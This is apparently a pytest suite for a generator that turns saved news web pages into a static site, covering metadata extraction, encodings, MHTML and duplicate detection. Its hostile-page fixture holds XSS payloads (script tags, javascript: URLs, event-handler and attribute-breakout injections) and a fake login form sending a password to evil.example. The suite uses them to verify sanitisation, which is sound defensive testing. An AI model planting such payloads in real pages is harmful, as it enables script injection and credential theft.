"""Saved web pages as seeds: each form (HTML with and without JSON-LD, a non-UTF-8 page,
MHTML), hostile pages, the pages that are not articles, and a page saved beside its paste.

The fixtures in tests/html_seeds/ are small pages written for these tests: one story about
the cost-sharing talks, in the forms a browser saves, with a site's menus, asides and footer
around it.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from generator import htmlpage, reader
from generator.model import Seed
from generator.pipeline import build
from generator.process import process
from generator.render import page_furniture, render_article

FIXTURES = Path(__file__).resolve().parent / "html_seeds"
HEADLINE = "Allies end fourth round of cost-sharing talks without a deal"
CANONICAL = "https://www.example-daily.com/news/2019/11/19/sma-talks.html"
CHROME = ("Home", "Politics", "Most read", "Celebrity wedding", "Copyright", "About us")


def _process(name: str, raw: bytes | None = None):
    path = FIXTURES / name
    return process(Seed(path, path.read_bytes() if raw is None else raw, {}))


def _story(article) -> str:
    return "\n".join(article.cleaned.paragraphs)


def test_origins_hold_no_markup():
    """The audit prints origins as Markdown: a tag name in one would be a tag."""
    for name in ("jsonld-article.html", "plain-cp1252.htm", "saved-single-file.mhtml"):
        article, _ = _process(name)
        assert not any("<" in o or ">" in o for o in article.meta.origins.values())


def test_the_reader_table_takes_saved_pages():
    for suffix in htmlpage.SUFFIXES:
        assert reader.reader_for(Path("x" + suffix.upper())).kind == "saved web page"
        assert reader.refused(Path("x" + suffix)) is None
    assert reader.refused(Path("x.webarchive"))[0] == "Safari web archive"


def test_page_with_json_ld():
    article, problems = _process("jsonld-article.html")
    assert problems == []
    m = article.meta
    # The printed <h1> wins over the SEO og:title / JSON-LD headline, and the audit says so.
    assert m.title == HEADLINE
    assert m.origins["title"] == "page h1 heading (printed; the page's json-ld headline differs)"
    assert (m.date.isoformat(), m.updated.isoformat()) == ("2019-11-19", "2019-11-20")
    assert m.origins["date"] == "page json-ld datePublished"
    assert m.author == ["Kim Min-ji"]  # "By" and ", Staff Reporter" cut
    assert (m.source, m.url) == ("Example Daily", CANONICAL)
    # The same story extractors as for a paste.
    assert (m.round, m.agreement, m.location) == (4, 11, "Seoul")
    assert any(f.unit == "KRW" for f in m.figures)
    story = _story(article)
    assert story.startswith("SEOUL -- South Korea") and story.endswith("current agreement.")
    assert not any(word in story for word in CHROME)


def test_page_without_json_ld_in_windows_1252():
    article, problems = _process("plain-cp1252.htm")
    assert problems == []
    m = article.meta
    # No <h1>: the <title>, without the site's name after it.
    assert m.title == "Allies end cost-sharing talks without a deal"
    assert m.origins["title"] == "page title tag (no h1 heading)"
    assert m.date.isoformat() == "2019-11-19" and "article:published_time" in m.origins["date"]
    assert m.author == ["Park Ji-won"] and m.origins["author"] == "page meta author"
    assert "café and canteen staff – included" in _story(article)  # read as cp1252, per <meta>
    assert article.decoding == ["read as cp1252 (meta)"]
    assert m.url is None


def test_korean_page_in_euc_kr():
    article, problems = _process("korean-euckr.html")
    assert problems == []
    assert article.meta.title == "한미 방위비 4차 회의 합의 없이 종료"
    assert article.cleaned.language == "ko"
    assert "방위비분담특별협정" in _story(article)
    assert article.decoding == ["read as euc_kr (meta)"]
    assert article.meta.round == 4


def test_a_page_whose_meta_charset_lies_is_read_by_the_text_fallbacks():
    raw = (FIXTURES / "korean-euckr.html").read_bytes().replace(b"euc-kr", b"utf-8")
    article, _ = _process("korean-euckr.html", raw)
    assert "방위비분담특별협정" in _story(article)
    assert any("not valid utf-8" in note for note in article.decoding)


def test_single_file_page_mhtml():
    article, problems = _process("saved-single-file.mhtml")
    page, _ = _process("jsonld-article.html")
    assert problems == []
    assert article.cleaned.paragraphs == page.cleaned.paragraphs  # quoted-printable undone
    assert article.meta.title == HEADLINE
    # No canonical link in it: the address it was saved from.
    assert (article.meta.url, article.meta.origins["url"]) == (CANONICAL, "MHTML Content-Location")
    assert article.decoding[0].startswith("the text/html part")


def test_mhtml_without_html_part_is_refused():
    raw = b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
    article, problems = _process("saved-single-file.mhtml", raw)
    assert article is None
    assert "saved-single-file.mhtml" in str(problems[0]) and "no text/html" in str(problems[0])


# ---------------------------------------------------------------- hostile pages

HOSTILE_STORY = (FIXTURES / "jsonld-article.html").read_text(encoding="utf-8")
HOSTILE = (
    HOSTILE_STORY.replace(
        '<link rel="canonical" href="https://www.example-daily.com/news/2019/11/19/sma-talks.html">',
        '<link rel="canonical" href="javascript:alert(\'canon\')">'
        '<meta property="og:url" content="https://evil.example/x&quot;onmouseover=alert(1)">',
    )
    .replace("<h1>Allies", "<h1 onclick=\"alert('h1')\">Allies")
    .replace(
        "<p>Chief negotiator",
        "<script>window.pwned = 1; alert('script')</script>"
        "<iframe src=\"javascript:alert('frame')\"></iframe>"
        '<form action="https://evil.example/steal"><input name="pw"><button>Log in</button></form>'
        "<p onmouseover=\"alert('p')\">Read <a href=\"javascript:alert('link')\">this link</a>"
        " and &lt;script&gt;alert('escaped')&lt;/script&gt; {{ config.site_name }}"
        " [x](javascript:y)"
        " written in the story by its reporter, who quoted it word for word.</p>"
        "<p>Chief negotiator",
    )
)


def _tokens(text: str):
    for token in MarkdownIt("commonmark").parse(text):
        yield token
        yield from token.children or []


def test_hostile_page_reaches_the_site_as_text_only():
    article, _ = process(Seed(Path("hostile.html"), HOSTILE.encode(), {}))
    assert article.meta.url is None  # javascript: canonical, og:url with a quote: no address
    page = render_article(article)
    body = page.split("\n---\n", 1)[1]
    for bad in ("<script", "<iframe", "<form", "<input", "onclick", "onmouseover"):
        assert bad not in body.lower().replace("&lt;script", ""), bad
    html = [t for t in _tokens(body) if t.type in ("html_block", "html_inline")]
    # Only our own markup: paragraphs and the meta line; no tag of the page.
    ours = r"<(p|/p)\b"
    assert all(re.match(ours, t.content) for t in html), html
    assert not any(re.search(r"<[^>]*javascript", t.content) for t in html)
    assert "[x](javascript:y)" in _story(article)  # as text: escaped, never a link
    assert not [t for t in _tokens(body) if t.type == "link_open"]  # the theme links the copy
    assert "{{ config.site_name }}" in _story(article)  # as text, escaped on the page
    assert "&lt;script&gt;alert(&#x27;escaped&#x27;)&lt;/script&gt;" in body


def test_original_link_is_escaped_http_only_and_not_followed(tmp_path):
    article, _ = _process("jsonld-article.html")
    shown = page_furniture(article)  # the theme prints these, each through `e`
    assert (shown["original"], shown["original_host"]) == (CANONICAL, "www.example-daily.com")
    assert shown["original_label"] == "Original at"
    for bad in ("javascript:alert(1)", "data:text/html,x", "//evil.example/", "https://a b/", ""):
        article.meta.url = bad
        assert page_furniture(article)["original"] is None


def test_a_20_mb_page_is_refused_naming_the_file():
    filler = "<p>" + "Menu item and more words here. " * 30 + "</p>"
    raw = ("<html><body>" + filler * (20_000_000 // len(filler)) + "</body></html>").encode()
    article, problems = process(Seed(Path("huge page.html"), raw, {}))
    assert article is None
    assert str(problems[0]).startswith("huge page.html: holds 20.0 MB of HTML")


def test_a_page_nested_10000_deep_is_refused_naming_the_file():
    words = "The allies met again in Seoul to talk about the cost of the troops. " * 10
    raw = ("<html><body>" + "<div>" * 10_000 + f"<p>{words}</p>" + "</div>" * 10_000).encode()
    article, problems = process(Seed(Path("deep.html"), raw, {}))
    assert article is None
    assert str(problems[0]).startswith("deep.html: nests its elements deeper")


@pytest.mark.parametrize(
    "body, says",
    [
        (
            "<nav><a href='/'>Home</a></nav><h1>Subscribe to keep reading</h1>"
            "<p>Log in or sign up.</p><form><input name='e'></form>",
            "not an article",
        ),
        (
            "<h1>Politics</h1><ul>"
            + "".join(
                f"<li><h2><a href='/{i}'>Headline number {i} of the day</a></h2>"
                f"<p>A short teaser about story {i}.</p></li>"
                for i in range(30)
            )
            + "</ul>",
            "section front",
        ),
    ],
    ids=["login wall", "section front"],
)
def test_a_page_that_is_not_an_article_gets_a_warning_not_a_page(body, says):
    raw = f"<html><head><title>Example Daily</title></head><body>{body}</body></html>".encode()
    article, problems = process(Seed(Path("front.html"), raw, {}))
    assert article is None
    assert str(problems[0]).startswith("front.html: is a saved web page") and says in str(
        problems[0]
    )


# ---------------------------------------------------------------- in a whole run


@pytest.fixture
def run(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    for name in ("pasted-copy.txt", "saved-single-file.mhtml", "jsonld-article.html"):
        (seeds / name).write_bytes((FIXTURES / name).read_bytes())
    return seeds, tmp_path / "docs", tmp_path / "cache"


def test_page_and_paste_of_one_story_are_one_article_from_the_page(run):
    seeds, docs, cache = run
    result = build(seeds, docs, cache_dir=cache)
    assert [a.seed.name for a in result.articles] == ["jsonld-article.html"]
    warned = sorted(str(w) for w in result.warnings)
    # Story words the same as the page's: the duplicate rule, the page first.
    assert any(
        w.startswith("pasted-copy.txt: is the same article as jsonld-article.html") for w in warned
    ), warned
    assert any(
        w.startswith("saved-single-file.mhtml: is the same article as jsonld-article.html")
        for w in warned
    ), warned
    (page,) = (docs / "articles").glob("*.md")
    raw = (docs / "raw" / f"{page.stem}.txt").read_text(encoding="utf-8")
    assert raw.startswith(HEADLINE + "\n") and "<" not in raw
    assert "saved web page jsonld-article.html (" + CANONICAL + ")" in raw
    assert "SEOUL -- South Korea" in raw and "Celebrity wedding" not in raw
    # Feeds and JSON-LD carry the original address.
    feed = json.loads((docs / "feed.json").read_text(encoding="utf-8"))
    assert feed["items"][0]["external_url"] == CANONICAL
    assert f'rel="related" type="text/html" href="{CANONICAL}"' in (docs / "feed.xml").read_text()
    text = page.read_text(encoding="utf-8")
    assert f"  url: {CANONICAL}\n" in text and f"  - {CANONICAL}\n" in text  # isBasedOn


def test_a_paste_with_other_words_around_the_story_is_still_the_page_s_article(run):
    seeds, docs, cache = run
    (seeds / "saved-single-file.mhtml").unlink()
    paste = (
        (FIXTURES / "pasted-copy.txt")
        .read_text(encoding="utf-8")
        .replace(
            "Officials said",
            "Officials in Seoul, speaking on condition of anonymity, said on Thursday that",
        )
    )
    (seeds / "pasted-copy.txt").write_text(
        "Breaking news ticker: markets open higher in Seoul and Tokyo on Thursday morning\n"
        + paste,
        encoding="utf-8",
    )
    result = build(seeds, docs, cache_dir=cache)
    assert [a.seed.name for a in result.articles] == ["jsonld-article.html"]
    assert [str(w) for w in result.warnings] == [
        "pasted-copy.txt: is the same article as the saved page jsonld-article.html; published "
        "once, from the saved page (delete one of the two files)"
    ]


def test_a_different_story_beside_a_saved_page_is_its_own_article(run):
    seeds, docs, cache = run
    (seeds / "pasted-copy.txt").write_text(
        "Allies to resume talks next month\n\n" + "The two allies will meet again in "
        "Washington next month for the fifth round, officials said on Friday, as the deadline "
        "for a new deal nears and both sides prepare new proposals on the troops' cost.\n",
        encoding="utf-8",
    )
    result = build(seeds, docs, cache_dir=cache)
    assert sorted(a.seed.name for a in result.articles) == [
        "jsonld-article.html",
        "pasted-copy.txt",
    ]


def test_a_saved_page_is_cached_like_a_text_seed(run):
    seeds, docs, cache = run
    build(seeds, docs, cache_dir=cache, early_stop=False)
    again = build(seeds, docs, cache_dir=cache, early_stop=False)
    assert again.extracted == 0 and [a.seed.name for a in again.articles] == ["jsonld-article.html"]


# ---------------------------------------------------------------- in Chromium


def test_built_page_from_a_saved_page_in_chromium(browser, new_project, run_mkdocs):
    seeds = new_project / "seeds"
    for old in seeds.iterdir():
        old.unlink()
    (seeds / "hostile.html").write_bytes(HOSTILE.encode())
    (seeds / "jsonld-article.html").write_bytes((FIXTURES / "jsonld-article.html").read_bytes())
    result = run_mkdocs(new_project, strict=False)
    assert result.returncode == 0, result.stderr
    pages = sorted((new_project / "site" / "articles").glob("*/index.html"))
    (saved_html,) = [p for p in pages if "nd-original" in p.read_text()]
    (page_html,) = [p for p in pages if p != saved_html]
    context = browser.new_context(java_script_enabled=True)
    try:
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.route(re.compile(r"^(?!file:).*"), lambda route: route.abort())  # nothing outside
        page.goto(page_html.as_uri())
        article = page.locator("article")
        assert HEADLINE in article.locator("h1").inner_text()
        assert "{{ config.site_name }}" in article.inner_text()
        assert page.evaluate("() => window.pwned") is None
        counts = page.evaluate(
            "() => [...document.querySelectorAll('article iframe, article form, article script,"
            ' article [onclick], article [onmouseover], a[href^="javascript:"]\')].length'
        )
        assert counts == 0 and dialogs == []
        # The theme's links under the story: the original, never followed, and our text copy.
        page.goto(saved_html.as_uri())
        original = page.locator("p.nd-sourcelinks a.nd-original")
        assert original.get_attribute("href") == CANONICAL
        assert original.get_attribute("rel") == "nofollow noopener"
        copy = page.get_by_role("link", name="Source text", exact=True)
        target = (saved_html.parent / copy.get_attribute("href")).resolve()
        assert target.is_file() and target.suffix == ".txt"
    finally:
        context.close()


# ---------------------------------------------------------------- what trafilatura gets wrong

STORY_P = "".join(
    f"<p>{p}</p>" for p in (FIXTURES / "pasted-copy.txt").read_text().split("\n\n")[1:4]
)


def _page(head: str, body: str):
    raw = f"<html><head>{head}</head><body>{body}{STORY_P}</body></html>".encode()
    article, _ = process(Seed(Path("p.html"), raw, {}))
    return article.meta


@pytest.mark.parametrize(
    "head, body, title",
    [
        # The site's logo in an <h1>, then the headline's <h1>.
        (
            "<title>Allies end talks - Example Daily</title>"
            "<meta property='og:site_name' content='Example Daily'>",
            "<h1>Example Daily</h1><h1>Allies end talks without a deal</h1>",
            "Allies end talks without a deal",
        ),
        # An <h1> sharing no word with any meta title is a box's heading, not the headline.
        (
            "<meta property='og:title' content='Allies end talks without a deal - GRX'>",
            "<h1>GRX Entertainment</h1>",
            "Allies end talks without a deal - GRX",
        ),
        # No <h1>: the meta title without the site's name, before or after it.
        (
            "<title>Example Daily | Allies end talks</title>"
            "<link rel='canonical' href='https://www.exampledaily.com/x'>",
            "",
            "Allies end talks",
        ),
        ("<title>한미 방위비 협상 종료 - Entermedia</title>", "", "한미 방위비 협상 종료"),
    ],
)
def test_the_printed_headline_without_the_site_s_name(head, body, title):
    assert _page(head, body).title == title


def test_a_utc_stamp_a_day_off_the_printed_day_gives_the_printed_day():
    head = "<meta property='article:published_time' content='2019-11-20T02:59:46Z'>"
    printed = _page(head, "<h1>Allies end talks</h1><p class='stamp'>November 19, 2019 9:59 PM</p>")
    assert printed.date.isoformat() == "2019-11-19" and "moved" in printed.origins["date"]
    local = head.replace("Z'", "+09:00'")
    assert _page(local, "<h1>Allies end talks</h1><p>Nov. 19, 2019</p>").date.isoformat() == (
        "2019-11-20"
    )  # in the stamp's own offset: as written
    unprinted = _page(head, "<h1>Allies end talks</h1>")
    assert unprinted.date.isoformat() == "2019-11-20"


def test_a_json_ld_date_not_in_iso_form():
    ld = '{"@type": "NewsArticle", "datePublished": "Tue Nov 19 2019 03:05:46 GMT+0000"}'
    meta = _page(f"<script type='application/ld+json'>{ld}</script>", "<h1>Allies end talks</h1>")
    assert meta.date.isoformat() == "2019-11-19"


@pytest.mark.parametrize(
    "author, names",
    [
        ('"Analysis by Chris Kim, Editor-at-large"', ["Chris Kim"]),
        ('"Finian Cunningham. Sputnik International"', ["Finian Cunningham"]),
        ('[{"@type": "Person", "name": "Bruce Y. Lee"}]', ["Bruce Y. Lee"]),
        ('"Kim Min-ji and Park Ji-won"', ["Kim Min-ji", "Park Ji-won"]),
        ('[{"@type": "Organization", "name": "Reuters"}]', []),
        ('"Staff Reports"', []),
    ],
)
def test_authors_from_json_ld(author, names):
    ld = f'{{"@graph": [{{"@type": "NewsArticle", "author": {author}}}]}}'
    meta = _page(f"<script type='application/ld+json'>{ld}</script>", "<h1>Allies end talks</h1>")
    assert meta.author == names


def test_what_the_markup_states_is_not_sent_to_review():
    """A JSON-LD page's headline, date and authors are the page's own word: rated high, so the
    Review page does not list every saved page; a pasted copy of the same story has no markup."""
    article, _ = _process("jsonld-article.html")
    assert {article.meta.confidence[f] for f in ("title", "date", "author")} == {"high"}
    assert not {"title", "date", "author"} & set(article.meta.runner_up)
